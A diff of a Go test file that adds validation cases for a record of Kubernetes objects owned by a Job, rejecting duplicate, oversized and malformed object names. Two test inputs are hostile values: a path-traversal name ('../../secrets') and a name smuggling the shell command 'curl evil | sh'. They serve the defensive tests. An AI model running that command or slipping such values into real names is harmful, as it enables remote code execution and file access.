@@ -1,6 +1,8 @@
 package resize
 
 import (
+	"bytes"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -19,19 +21,27 @@ func TestSecret(t *testing.T) {
 		u.SetName("llama")
 		return u
 	}
+	named := func(name string) *unstructured.Unstructured {
+		u := of("v1", "Service", "team")
+		u.SetName(name)
+		return u
+	}
 	many := make([]*unstructured.Unstructured, maxOwned+1)
 	for i := range many {
-		many[i] = of("v1", "Service", "team")
+		many[i] = named(fmt.Sprintf("llama-%d", i))
 	}
 	reader := gang.JobReader{GroupKind: schema.GroupKind{Group: batchv1.GroupName, Kind: "Job"}}
 	for name, tt := range map[string]struct {
 		owned   []*unstructured.Unstructured
 		message string
 	}{
-		"fine":              {many[:maxOwned], ""},
-		"too many":          {many, "the job owns 17 objects, at most 16 can be made again"},
-		"another kind":      {[]*unstructured.Unstructured{of("v1", "Pod", "team")}, "object 1 "},
-		"another namespace": {[]*unstructured.Unstructured{of("v1", "Service", "other")}, "object 1 "},
+		"fine":                  {many[:maxOwned], ""},
+		"too many":              {many, "the job owns 17 objects, at most 16 can be made again"},
+		"another kind":          {[]*unstructured.Unstructured{of("v1", "Pod", "team")}, "object 1 "},
+		"a name with a path":    {[]*unstructured.Unstructured{named("../../secrets")}, `has no name that an object can have: "../../secrets"`},
+		"a name with a command": {[]*unstructured.Unstructured{named("a; curl evil | sh")}, "has no name"},
+		"the same twice":        {[]*unstructured.Unstructured{named("a"), named("a")}, "object 2 that the job owns is there twice: Service a"},
+		"another namespace":     {[]*unstructured.Unstructured{of("v1", "Service", "other")}, "object 1 "},
 	} {
 		t.Run(name, func(t *testing.T) {
 			r := &Record{Deleted: "1", Job: of("batch/v1", "Job", "team"), Owned: tt.owned}
@@ -41,6 +51,10 @@ func TestSecret(t *testing.T) {
 			}
 			if err != nil {
 				return
+			}
+			m.Data[recordKey] = append(m.Data[recordKey], bytes.Repeat([]byte(" "), maxRecord)...)
+			if _, err := ReadRecord(m, reader, "llama"); err == nil || !strings.Contains(err.Error(), "a record has at most") {
+				t.Errorf("a record of any size: %v", err)
 			}
 			m.Type = "Opaque"
 			if _, err := ReadRecord(m, reader, "llama"); err == nil {
